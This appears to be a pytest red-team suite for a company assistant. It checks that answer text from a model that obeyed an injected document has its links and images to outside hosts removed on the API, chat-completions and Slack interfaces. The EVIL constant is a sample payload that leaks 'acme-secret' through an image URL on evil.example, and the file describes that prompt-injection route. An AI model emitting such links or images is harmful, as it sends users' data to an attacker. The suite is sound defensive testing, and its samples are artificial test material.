"""Red team: a model that obeys text injected into a document cannot send the user's client to an outside
host. Links and images in answer text are checked before they leave, on every interface."""

from __future__ import annotations

import pytest
from api_world import auth, build, client

from copilot.core.output_policy import sanitize
from copilot.testing import ScriptedChatModel, tool_call

EVIL = ("Here is the answer [S1]. ![chart](https://evil.example/p.png?d=acme-secret) "
        "[click here](https://evil.example/login) <img src='https://evil.example/x.gif'> "
        "see https://evil.example/raw and <https://evil.example/slack|details>")


def obeying_model():
    return ScriptedChatModel(script=[tool_call("search_knowledge", {"query": "security review"}), EVIL])


@pytest.fixture
def world(copilot):
    app, keys = build(copilot)
    with client(app) as c:
        yield copilot, c, keys


def _clean(text: str) -> None:
    assert "evil.example" not in text
    assert "![" not in text and "<img" not in text


def test_api_ask_strips_outside_links_and_images(world):
    cp, c, keys = world
    cp.services.__dict__["chat_model"] = obeying_model()
    cp.services.__dict__.pop("asker", None)
    r = c.post("/v1/ask", headers=auth(keys["r-ann"]), json={"question": "how do we pass a security review?"})
    body = r.json()
    _clean(body["text"])
    assert any("removed" in n for n in body["notes"])


def test_openai_compatible_endpoint_strips_them_too(world):
    cp, c, keys = world
    cp.services.__dict__["chat_model"] = obeying_model()
    cp.services.__dict__.pop("asker", None)
    r = c.post("/v1/chat/completions", headers=auth(keys["r-ann"]),
               json={"model": "copilot", "messages": [{"role": "user", "content": "security review?"}]})
    _clean(r.json()["choices"][0]["message"]["content"])


def test_slack_blocks_carry_no_images_even_from_allowed_hosts():
    from datetime import datetime

    from copilot.core.domain import Answer, Citation, Freshness
    from integrations.slack.blocks import answer_blocks

    a = Answer(text="See ![diagram](https://docs.acme.example/d.png) and [the guide](https://docs.acme.example/g) "
                    "and [this](https://evil.example/x)",
               citations=[Citation(source_id="d", title="Guide", url="https://docs.acme.example/g")],
               freshness=Freshness(newest=datetime(2026, 11, 20), age_hours=1.0))
    text = answer_blocks(a, "ans-1")[0]["text"]["text"]
    assert "d.png" not in text and "evil.example" not in text
    assert "<https://docs.acme.example/g|the guide>" in text


def test_allow_list_and_citation_hosts_are_kept():
    out = sanitize("[docs](https://docs.acme.example/a) ![x](https://cdn.acme.example/i.png) [no](https://other.example)",
                   ["acme.example"])
    assert "https://docs.acme.example/a" in out.text and "https://cdn.acme.example/i.png" in out.text
    assert "other.example" not in out.text and out.removed == 1


def test_slack_answer_from_an_obeying_model_has_no_outside_links(world):
    from integrations.slack.blocks import answer_blocks

    cp, _, _ = world
    cp.services.__dict__["chat_model"] = obeying_model()
    cp.services.__dict__.pop("asker", None)
    answer = cp.ask(cp.principal("r-ann"), "how do we pass a security review?")
    blocks = answer_blocks(answer, "ans-2")
    _clean(str(blocks))
